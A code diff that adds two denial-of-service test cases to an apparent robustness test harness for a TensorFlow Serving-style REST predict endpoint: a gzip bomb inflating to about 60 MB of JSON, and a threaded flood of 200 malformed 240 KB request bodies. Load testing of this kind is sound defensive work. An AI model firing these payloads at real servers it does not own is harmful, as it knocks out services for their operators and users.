@@ -340,6 +340,36 @@ def case_big_body(server: Server) -> Result:
     return measure(server, "5. 57 MB REST body", attack)
 
 
+def case_gzip_bomb(server: Server) -> Result:
+    """Item 5, compressed: 80 KB of gzip that inflates to ~60 MB of JSON (TF's cap is 100 MiB)."""
+    import gzip
+
+    rows = 5_000_000
+    body = gzip.compress(b'{"instances": [' + b"[1.0, 2.0]," * (rows - 1) + b"[1.0, 2.0]]}", compresslevel=9)
+
+    def attack(result: Result) -> None:
+        result.note = f"body {len(body) // 1024} KiB gzip"
+        head = (f"POST /v1/models/m:predict HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\n"
+                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
+        result.sent += 1
+        result.answers[str(http(server.rest, head + body, 300)[0])] += 1
+
+    return measure(server, "5b. gzip body inflating to 60 MB", attack)
+
+
+def case_malformed_flood(server: Server) -> Result:
+    """Malformed ~240 KB bodies, 8 at a time: TF's exact parser (pure Python) reports them."""
+    body = b'{"instances": [' + b"1.0," * 60_000 + b"]}"
+
+    def attack(result: Result) -> None:
+        with concurrent.futures.ThreadPoolExecutor(8) as pool:
+            for status in pool.map(lambda _: post(server.rest, "/v1/models/m:predict", body, 60), range(200)):
+                result.sent += 1
+                result.answers[str(status)] += 1
+
+    return measure(server, "5c. 200 malformed 240 KB bodies, 8 at a time", attack)
+
+
 def case_body_cap(server: Server) -> Result:
     """Item 6: a 2 GiB Content-Length with no body, and a chunked body past the cap."""
 
@@ -545,6 +575,8 @@ SHARED_SERVER_CASES: dict[str, Callable[[Server], Result]] = {
     "grpc-leak": case_grpc_leak,
     "shape-claim": case_shape_claim,
     "big-body": case_big_body,
+    "gzip-bomb": case_gzip_bomb,
+    "malformed-flood": case_malformed_flood,
     "body-cap": case_body_cap,
     "bad-chunk": case_bad_chunk,
     "grpc-mistakes": case_grpc_mistakes,
